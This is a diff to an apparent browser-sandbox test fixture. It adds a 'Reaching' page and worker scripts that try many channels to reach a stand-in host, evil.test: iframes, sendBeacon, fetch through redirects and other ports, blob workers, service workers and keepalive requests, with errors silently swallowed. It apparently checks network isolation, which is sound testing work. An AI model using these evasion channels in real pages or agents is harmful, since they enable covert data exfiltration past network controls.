@@ -47,6 +47,23 @@ requestAnimationFrame(f)})()</script>"""
 STORE = """<!doctype html><title>Store</title><p id=o></p><script>o.textContent='visits '+(localStorage.n||0);
 localStorage.n=1+(+localStorage.n||0)</script>
 <button onclick="localStorage.clear()">Clear</button>"""
+REACHING = """<!doctype html><title>Reaching</title><iframe src=//evil.test/frame></iframe><iframe srcdoc="<script>
+fetch('http://evil.test/srcdoc',{mode:'no-cors'}).catch(()=>0)</script>"></iframe><img src=//evil.test/image.png>
+<link rel=stylesheet href=//evil.test/style.css><iframe src=//embed.test/></iframe><p id=o></p>
+<button onclick="open('//evil.test/popup')">Pop up</button><script>
+const reach = "fetch('http://evil.test/worker',{mode:'no-cors'}).catch(()=>0).then(()=>postMessage('done'))";
+const quiet = () => 0;
+(async () => {
+  navigator.sendBeacon('//evil.test/beacon', 'x');
+  for (const url of ['//evil.test/fetch', '/redirect?to=http://evil.test/redirected', 'http://lab.test:81/port'])
+    await fetch(url, {mode: 'no-cors'}).catch(quiet);
+  const worker = new Worker(URL.createObjectURL(new Blob([reach])));
+  await new Promise((done) => { worker.onmessage = done });
+  try { new SharedWorker('/shared.js') } catch {}
+  navigator.serviceWorker?.register('/service.js').catch(quiet);
+  await fetch('//evil.test/keepalive', {mode: 'no-cors', keepalive: true}).catch(quiet);
+  o.textContent = 'tried everything';
+})()</script>"""
 PAGES: Mapping[tuple[str, str], str] = {
     ("lab.test", "/"): LAB,
     ("lab.test", "/second"): "<!doctype html><title>Second</title><h1>Second page</h1><p>Text</p>",
@@ -73,6 +90,9 @@ PAGES: Mapping[tuple[str, str], str] = {
     "<div id=veil onclick=\"document.title='veil'\" style='position:fixed;inset:0'></div>",
     ("lab.test", "/chooser"): "<!doctype html><title>Chooser</title><input type=file id=f style=display:none "
     "onchange=\"document.title='got '+f.files[0].name\"><button onclick=f.click()>Choose</button>",
+    ("lab.test", "/reaching"): REACHING,
+    ("lab.test", "/shared.js"): "fetch('http://evil.test/shared', {mode: 'no-cors'}).catch(() => 0)",
+    ("lab.test", "/service.js"): "fetch('http://evil.test/service', {mode: 'no-cors'}).catch(() => 0)",
     ("lab.test", "/images"): "<!doctype html><title>Images</title><img alt='A dot' src='data:image/gif;base64,"
     "R0lGODlhAgACAIAAAAAAAP///yH5BAEAAAAALAAAAAACAAIAAAIDRAJZADs='>",
     (
